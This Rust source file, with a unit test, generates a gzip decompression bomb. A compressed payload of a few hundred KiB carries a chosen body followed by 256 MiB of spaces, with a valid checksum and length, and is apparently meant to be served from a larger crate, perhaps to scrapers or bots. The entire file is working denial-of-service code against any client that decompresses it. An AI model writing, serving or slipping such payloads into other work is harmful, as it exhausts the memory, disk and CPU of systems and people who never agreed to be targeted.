//! A gzip bomb: some hundred KiB that decompress to 256 MiB.

use std::io::{self, Write as _};

use flate2::write::DeflateEncoder;
use flate2::{Compression, Crc};

/// What a block of the bomb decompresses to.
const BLOCK: usize = 1 << 20;
/// How many blocks there are.
const BLOCKS: u32 = 256;
/// A header of gzip, without a name and a time.
const HEAD: [u8; 10] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF];

/// Returns a body that decompresses to this one and 256 MiB of blanks.
///
/// Length and checksum are right: who decompresses all of it reads a message.
pub(crate) fn bomb(body: &[u8]) -> io::Result<Vec<u8>> {
    let blanks = vec![b' '; BLOCK];
    let (first, block) = (compressed(body)?, compressed(&blanks)?);
    let (mut crc, mut crc_of_block) = (Crc::new(), Crc::new());
    crc.update(body);
    crc_of_block.update(&blanks);
    let mut bomb = [&HEAD[..], &first].concat();
    for _ in 0..BLOCKS {
        bomb.extend_from_slice(&block);
        crc.combine(&crc_of_block);
    }
    // A last block, which is empty.
    bomb.extend([3, 0]);
    bomb.extend(crc.sum().to_le_bytes());
    bomb.extend(crc.amount().to_le_bytes());
    Ok(bomb)
}

/// Returns blocks that end at a whole byte, so that others can follow.
fn compressed(bytes: &[u8]) -> io::Result<Vec<u8>> {
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes)?;
    encoder.flush()?;
    Ok(encoder.get_ref().clone())
}

#[cfg(test)]
mod tests {
    use std::io::Read as _;

    use flate2::read::GzDecoder;

    use super::*;

    #[test]
    fn it_is_small_and_decompresses_without_an_error() {
        let bomb = bomb(b"{}").unwrap();
        assert!(bomb.len() < 512 << 10, "{}", bomb.len());
        let mut decoder = GzDecoder::new(&bomb[..]);
        let mut begin = [0; 3];
        decoder.read_exact(&mut begin).unwrap();
        assert_eq!(&begin, b"{} ");
        assert_eq!(io::copy(&mut decoder, &mut io::sink()).unwrap(), (256 << 20) - 1);
    }
}
